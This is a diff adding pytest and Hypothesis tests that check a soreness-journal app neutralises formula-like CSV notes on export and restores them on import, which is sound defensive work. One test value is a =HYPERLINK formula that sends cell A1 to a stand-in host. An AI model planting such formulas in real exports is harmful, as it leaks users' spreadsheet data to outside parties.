@@ -464,3 +464,63 @@ def test_csv_round_trip_of_any_journal(journal: Journal) -> None:
     parsed = parse_import(text.encode(), "any.csv", today=TODAY)
     assert parsed.journal.ratings == journal.sorted().ratings
     assert write_csv(parsed.journal) == text
+
+
+# --- CSV cells a spreadsheet would run as formulas -------------------------------------
+
+FORMULA_LIKE_NOTES = [
+    '=HYPERLINK("https://example.invalid/?q="&A1,"Click for details")',
+    "+1 after squats",
+    "-2 since yesterday",
+    "@SUM(A1:A9)",
+    "\tindented with a tab",
+    "\rstarts with a carriage return",
+    "'already quoted",
+    "''two apostrophes",
+    "=1+1",
+]
+
+
+def cells_of(csv_text: str) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(csv_text, newline="")))
+
+
+@pytest.mark.parametrize("note", FORMULA_LIKE_NOTES)
+def test_csv_export_neutralises_formula_like_notes_and_imports_them_back_as_they_were(
+    note: str,
+) -> None:
+    journal = Journal(ratings=(SorenessRating(dt.date(2026, 3, 2), "calves.left", 4, note),))
+    text = write_csv(journal)
+    (header, row) = cells_of(text)
+    assert header == HEADER.split(",")
+    assert row[5] == f"'{note}"  # a spreadsheet shows the text; it runs nothing
+    parsed = parse_import(text.encode(), "any.csv", today=TODAY)
+    assert parsed.journal.ratings[0].note == note
+    assert write_csv(parsed.journal) == text
+
+
+def test_ordinary_notes_are_written_as_they_are() -> None:
+    notes = ["Tight on stairs", "knee 3-4 after runs", "a=b", "email me@home"]
+    journal = Journal(
+        ratings=tuple(
+            SorenessRating(dt.date(2026, 3, 2), region, 2, note)
+            for region, note in zip(sorted(REGION_IDS), notes, strict=False)
+        )
+    )
+    assert [row[5] for row in cells_of(write_csv(journal))[1:]] == notes
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''", ""]), texts)
+def test_csv_export_import_export_is_byte_identical_for_any_note(start: str, rest: str) -> None:
+    note = start + rest
+    journal = Journal(ratings=(SorenessRating(dt.date(2026, 3, 2), "calves.left", 4, note),))
+    text = write_csv(journal)
+    (_, row) = cells_of(text)
+    assert not row[5].startswith(("=", "+", "-", "@", "\t", "\r"))
+    parsed = parse_import(text.encode(), "any.csv", today=TODAY)
+    assert parsed.journal.ratings[0].note == note
+    assert write_csv(parsed.journal) == text
